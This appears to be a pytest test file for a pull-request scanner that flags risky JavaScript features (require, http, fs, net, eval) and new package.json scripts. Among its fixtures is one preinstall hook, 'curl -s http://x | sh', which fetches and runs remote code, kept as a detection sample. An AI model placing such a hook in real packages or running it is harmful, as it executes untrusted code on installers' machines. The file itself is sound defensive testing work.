from __future__ import annotations

import json

import pytest

from tailguard.detector import (
    RULE_CATALOG,
    DetectorOptions,
    detect_features_in_line,
    is_update_related,
    mask_strings,
    rule_catalog_document,
    scan_pull_request,
    strip_line_comments,
)
from tailguard.diff import file_change
from tailguard.model import FileKind, Outcome, PullRequest, UnsafeFeature as F

RAW = DetectorOptions(raw_regex=True)


def js_pr(*added: str, path: str = "index.js") -> PullRequest:
    body = "".join(f"+{ln}\n" for ln in added)
    patch = f"@@ -1,0 +1,{len(added)} @@\n{body}"
    return PullRequest("1", "demo", "t", files=(file_change(path, patch),))


def manifest_pr(added: str) -> PullRequest:
    # three lines of context put the added line unambiguously inside "scripts"
    patch = (
        "@@ -1,4 +1,5 @@\n"
        " {\n"
        '   "name": "demo",\n'
        '   "scripts": {\n'
        f"+{added}\n"
        '     "test": "mocha"\n'
    )
    return PullRequest("1", "demo", "t", files=(file_change("package.json", patch),))


def features(pr: PullRequest, options: DetectorOptions = DetectorOptions()) -> set:
    return set(scan_pull_request(pr, options).features_present)


# (added line, expected features) for JavaScript files
JS_FIXTURES = [
    # require
    ("const x = require('lodash');", {F.REQUIRE_USE}),
    ("var a=require(\"./a\")", {F.REQUIRE_USE}),
    ("const { join } = require('path');", {F.REQUIRE_USE}),
    ("module.exports = require('./lib/index');", {F.REQUIRE_USE}),
    ("const plugin = require (name);", {F.REQUIRE_USE}),
    ("load(require('yaml'));", {F.REQUIRE_USE}),
    ("  const cfg = require(`./${env}.json`);", {F.REQUIRE_USE}),
    ("if (ok) require('./polyfill');", {F.REQUIRE_USE}),
    # http / https / http2
    ("const http = require('http');", {F.HTTP_ACCESS, F.REQUIRE_USE}),
    ("const https = require('node:https');", {F.HTTP_ACCESS, F.REQUIRE_USE}),
    ("import http2 from 'http2';", {F.HTTP_ACCESS}),
    ("import { request } from 'https';", {F.HTTP_ACCESS}),
    ("https.get(url, cb);", {F.HTTP_ACCESS}),
    ("const server = http.createServer(handler);", {F.HTTP_ACCESS}),
    ("http2.connect('https://example.com');", {F.HTTP_ACCESS}),
    ("const mod = await import('https');", {F.HTTP_ACCESS}),
    # fs
    ("const fs = require('fs');", {F.FS_USE, F.REQUIRE_USE}),
    ("import fs from 'fs';", {F.FS_USE}),
    ("import { readFile } from 'fs/promises';", {F.FS_USE}),
    ("import * as fsp from 'node:fs/promises';", {F.FS_USE}),
    ("fs.writeFileSync(out, data);", {F.FS_USE}),
    ("fs.promises.readFile(p);", {F.FS_USE}),
    ("const text = fs.readFileSync(file, 'utf8');", {F.FS_USE}),
    ("fs . unlink(tmp, done);", {F.FS_USE}),
    # net
    ("const net = require('net');", {F.NET_USE, F.REQUIRE_USE}),
    ("import net from 'net';", {F.NET_USE}),
    ("import { Socket } from 'node:net';", {F.NET_USE}),
    ("const sock = net.connect(4000);", {F.NET_USE}),
    ("net.createServer(onConn).listen(9000);", {F.NET_USE}),
    ("const c = net.createConnection({ port });", {F.NET_USE}),
    ("import('net').then(start);", {F.NET_USE}),
    ("server = net.Server();", {F.NET_USE}),
    # eval
    ("eval(code);", {F.EVAL_USE}),
    ("const fn = eval (src);", {F.EVAL_USE}),
    ("return eval('(' + json + ')');", {F.EVAL_USE}),
    ("const f = new Function('a', 'return a');", {F.EVAL_USE}),
    ("x = new  Function (body)();", {F.EVAL_USE}),
    ("cb(eval(expr));", {F.EVAL_USE}),
    ("  eval(payload) // run it", {F.EVAL_USE}),
    ("const out = [eval(a), 1];", {F.EVAL_USE}),
    # combinations
    ("const r = eval(require('fs').readFileSync(p, 'utf8'));", {F.EVAL_USE, F.REQUIRE_USE, F.FS_USE}),
    # negatives
    ("const score = evaluate(expr);", set()),
    ("// eval(code);", set()),
    ("/* eval(code) */ const a = 1;", set()),
    ("const msg = \"call require('x') first\";", set()),
    ("log('require(fs) is not used');", set()),
    ("const doRequire = myrequire(name);", set()),
    ("this.fs.readFile(p);", set()),
    ("options.http.get(url);", set()),
    ("const fsx = 'fs';", set()),
    ("const retrieval = 1;", set()),
    ("import lodash from 'lodash';", set()),
    ("const neteval = 3; // net.connect(1)", set()),
    ("const medieval(x) => x;", set()),
    ("const requireAuth = true;", set()),
    ("const label = `eval(${x})`;", set()),
]

# package.json lines placed inside the "scripts" object
MANIFEST_FIXTURES = [
    ('    "postinstall": "node install.js",', {F.NEW_SCRIPTS}),
    ('    "preinstall": "curl -s http://x | sh",', {F.NEW_SCRIPTS}),
    ('    "build": "tsc",', {F.NEW_SCRIPTS}),
    ('    "prepare": "husky install",', {F.NEW_SCRIPTS}),
    ('    "lint": "eslint .",', {F.NEW_SCRIPTS}),
    ('    "test:ci": "jest --ci",', {F.NEW_SCRIPTS}),
    ('    "start": "node server.js",', {F.NEW_SCRIPTS}),
    ('    "install": "node-gyp rebuild",', {F.NEW_SCRIPTS}),
    # JS-looking text in a manifest is not JavaScript
    ('    "x": "node -e \\"require(\'fs\')\\"",', {F.NEW_SCRIPTS}),
]


def test_fixture_counts():
    labelled = JS_FIXTURES + MANIFEST_FIXTURES
    assert len(labelled) >= 60
    for feat in F:
        assert sum(1 for _, exp in labelled if feat in exp) >= 8, feat
    assert sum(1 for _, exp in labelled if not exp) >= 12


@pytest.mark.parametrize("line,expected", JS_FIXTURES)
def test_js_fixture(line, expected):
    assert features(js_pr(line)) == expected


@pytest.mark.parametrize("line,expected", MANIFEST_FIXTURES)
def test_manifest_fixture(line, expected):
    assert features(manifest_pr(line)) == expected


# raw mode drops identifier boundaries and string masking; these lines are
# where that changes the verdict
RAW_DIVERGENCES = [
    ("const msg = \"call require('x') first\";", set(), {F.REQUIRE_USE}),
    ("log('require(fs) is not used');", set(), {F.REQUIRE_USE}),
    ("const doRequire = myrequire(name);", set(), {F.REQUIRE_USE}),
    ("this.fs.readFile(p);", set(), {F.FS_USE}),
    ("options.http.get(url);", set(), {F.HTTP_ACCESS}),
    ("const label = `eval(${x})`;", set(), {F.EVAL_USE}),
    ("const medieval(x) => x;", set(), {F.EVAL_USE}),
]


@pytest.mark.parametrize("line,default,raw", RAW_DIVERGENCES)
def test_raw_mode_divergence(line, default, raw):
    assert features(js_pr(line)) == default
    assert features(js_pr(line), RAW) == raw


def test_raw_mode_agrees_elsewhere():
    diverging = {line for line, _, _ in RAW_DIVERGENCES}
    for line, expected in JS_FIXTURES:
        if line not in diverging:
            assert features(js_pr(line), RAW) == expected, line


def test_comments_stripped_in_raw_mode_too():
    assert features(js_pr("// eval(code);"), RAW) == set()
    assert features(js_pr("const evaluate = 1;"), RAW) == set()


def test_strip_line_comments_respects_strings():
    assert strip_line_comments("a = 'http://x'; // note") == "a = 'http://x'; "
    assert strip_line_comments("a /* b */ + c") == "a  + c"
    assert strip_line_comments("s = \"/* not */\"") == "s = \"/* not */\""


def test_mask_strings_keeps_length():
    line = "f('a\\'b', \"c\") + `d`"
    masked = mask_strings(line)
    assert len(masked) == len(line)
    assert "a" not in masked and "c" not in masked.replace("f(", "")


def test_non_js_files_yield_nothing():
    assert detect_features_in_line("eval(x)", FileKind.MARKDOWN) == set()
    pr = js_pr("eval(x)", path="notes.md")
    rep = scan_pull_request(pr)
    assert not rep.update_related and not rep.unsafe


def test_strict_js_excludes_mjs():
    pr = js_pr("eval(x)", path="src/a.mjs")
    assert features(pr) == {F.EVAL_USE}
    assert features(pr, DetectorOptions(strict_js=True)) == set()
    assert not is_update_related(pr, strict_js=True)


def test_removed_and_context_lines_ignored():
    patch = "@@ -1,2 +1,2 @@\n-eval(a)\n const x = require('y');\n+const z = 1;\n"
    pr = PullRequest("1", "demo", "t", files=(file_change("a.js", patch),))
    rep = scan_pull_request(pr)
    assert rep.update_related and not rep.unsafe


def test_manifest_non_script_changes_not_flagged():
    patch = (
        "@@ -1,5 +1,5 @@\n"
        " {\n"
        '   "dependencies": {\n'
        '-    "lodash": "^4.17.20"\n'
        '+    "lodash": "^4.17.21"\n'
        "   },\n"
        '   "scripts": {\n'
    )
    pr = PullRequest("1", "demo", "t", files=(file_change("package.json", patch),))
    rep = scan_pull_request(pr)
    assert rep.update_related and not rep.unsafe


def test_hits_located_and_deduplicated():
    pr = js_pr("const a = 1;", "const fs = require('fs'); fs.readFileSync(require('p'))")
    rep = scan_pull_request(pr)
    keys = [(h.file_path, h.new_lineno, h.feature) for h in rep.hits]
    assert len(keys) == len(set(keys))
    assert {h.new_lineno for h in rep.hits} == {2}
    for h in rep.hits:
        assert h.matched_text in "const fs = require('fs'); fs.readFileSync(require('p'))"
        assert len(h.matched_text) <= 120


def test_excerpt_bounded():
    long_line = "eval(" + "x" * 300 + ")"
    rep = scan_pull_request(js_pr(long_line))
    assert all(len(h.matched_text) <= 120 for h in rep.hits)


def test_report_json_stable():
    pr = js_pr("eval(x)", "require('fs')")
    a = scan_pull_request(pr).to_json()
    assert a == scan_pull_request(pr).to_json()
    doc = json.loads(a)
    assert doc["unsafe"] is True


def test_outcome_does_not_affect_detection():
    pr = js_pr("eval(x)")
    closed = PullRequest(pr.id, pr.repo, pr.title, outcome=Outcome.CLOSED, files=pr.files)
    assert features(pr) == features(closed)


def test_rule_catalog_covers_every_feature():
    doc = rule_catalog_document()
    assert {r["feature"] for r in doc["rules"]} == {f.value for f in F}
    assert len({r.id for r in RULE_CATALOG}) == len(RULE_CATALOG)
